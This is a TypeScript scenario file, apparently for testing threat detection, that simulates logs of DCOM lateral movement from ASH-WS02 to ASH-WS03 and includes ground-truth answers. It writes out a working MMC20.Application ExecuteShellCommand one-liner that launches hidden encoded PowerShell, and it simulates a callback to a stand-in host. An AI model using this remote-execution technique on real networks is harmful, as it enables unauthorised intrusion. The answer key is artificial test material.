// An attack: from one workstation a command is run on another through MMC20.Application over DCOM.
import { logoff, logon } from '../office/logons.ts'
import { session } from '../office/machine.ts'
import { accept, connect, resolve } from '../office/network.ts'
import { at, type Office } from '../office/office.ts'
import { REYES } from '../office/people.ts'
import { end, start } from '../office/processes.ts'
import { hostPipe, runScript } from '../office/scripts.ts'
import { seatsOf } from './ordinary-day.ts'
import { encoded, HARMLESS } from './payload.ts'
import type { Scenario } from './scenario.ts'

const SYSTEM32 = 'C:\\Windows\\System32'
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`
const SCRIPT = `Write-Output "synthetic sample: DCOM lateral movement"; ${HARMLESS}`
/** The dynamic port on which the management console serves its class. */
const PORT = 49731

export const dcomLateralMovement: Scenario = {
  id: 'dcom-lateral-movement',
  story:
    'From ASH-WS02, with the credentials of adm.reyes, MMC20.Application is activated on ASH-WS03: DcomLaunch starts mmc.exe there, which takes the connection and starts cmd.exe, an encoded PowerShell and whoami.',
  truth: {
    host: 'ASH-WS03',
    source: 'ASH-WS02',
    from: '2026-03-04T14:20:11Z',
    to: '2026-03-04T14:21:40Z',
    account: 'adm.reyes',
    techniques: ['T1559.001'],
    also: ['T1021.003', 'T1059.001'],
    channelKinds: ['dcom', 'com'],
    mentions: ['mmc\\.exe', 'powershell', 'whoami', '10\\.20\\.0\\.22'],
  },
  play(office) {
    const ports = callFrom(office)
    const there = session(REYES, 0x8f3a21, { terminal: 0, elevated: true })
    const { machine, services } = office.ws03
    const peer = { address: office.ws02.machine.address, name: office.ws02.machine.fqdn }
    accept(at('14:20:11.290'), services.rpcss, { ...peer, port: ports.mapper }, 135)
    logon(machine, at('14:20:11.335'), { session: there, type: 3, from: { ...peer, port: ports.mapper } })
    const mmc = start(at('14:20:11.611'), {
      image: `${SYSTEM32}\\mmc.exe`,
      commandLine: `${SYSTEM32}\\mmc.exe -Embedding`,
      parent: services.dcomLaunch,
      session: there,
    })
    accept(at('14:20:12.040'), mmc, { ...peer, port: ports.server }, PORT)
    const cmd = start(at('14:20:12.377'), {
      image: `${SYSTEM32}\\cmd.exe`,
      commandLine: `"${SYSTEM32}\\cmd.exe" /c powershell -NoP -W Hidden -enc ${encoded(SCRIPT)}`,
      parent: mmc,
    })
    const shell = start(at('14:20:12.702'), {
      image: POWERSHELL,
      commandLine: `powershell  -NoP -W Hidden -enc ${encoded(SCRIPT)}`,
      parent: cmd,
    })
    hostPipe(at('14:20:13.480'), shell)
    runScript(at('14:20:13.902'), shell, SCRIPT)
    const whoami = start(at('14:20:21.115'), {
      image: `${SYSTEM32}\\whoami.exe`,
      commandLine: `"${SYSTEM32}\\whoami.exe" /all`,
      parent: shell,
    })
    end(at('14:20:21.190'), whoami)
    resolve(at('14:20:24.020'), shell, 'cdn.quick-mail.example', '203.0.113.45')
    connect(at('14:20:24.066'), shell, { address: '203.0.113.45', port: 443 })
    for (const process of [shell, cmd, mmc]) end(at('14:21:38.400'), process)
    logoff(machine, at('14:21:40.000'), there, 3)
  },
}

/** The caller's side, which was recorded too. */
function callFrom(office: Office): { mapper: number; server: number } {
  const { ws03 } = office
  const { explorer } = seatsOf(office).brandt
  const target = { address: ws03.machine.address, name: ws03.machine.fqdn }
  const shell = start(at('14:18:40.220'), { image: POWERSHELL, commandLine: 'powershell.exe -NoP', parent: explorer })
  hostPipe(at('14:18:40.980'), shell)
  runScript(
    at('14:20:11.180'),
    shell,
    `$com = [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application', '${target.address}'))\n$com.Document.ActiveView.ExecuteShellCommand('C:\\Windows\\System32\\cmd.exe', $null, '/c powershell -NoP -W Hidden -enc ${encoded(SCRIPT)}', '7')`,
  )
  const mapper = connect(at('14:20:11.288'), shell, { ...target, port: 135 })
  const server = connect(at('14:20:12.038'), shell, { ...target, port: PORT })
  end(at('14:26:02'), shell)
  return { mapper, server }
}
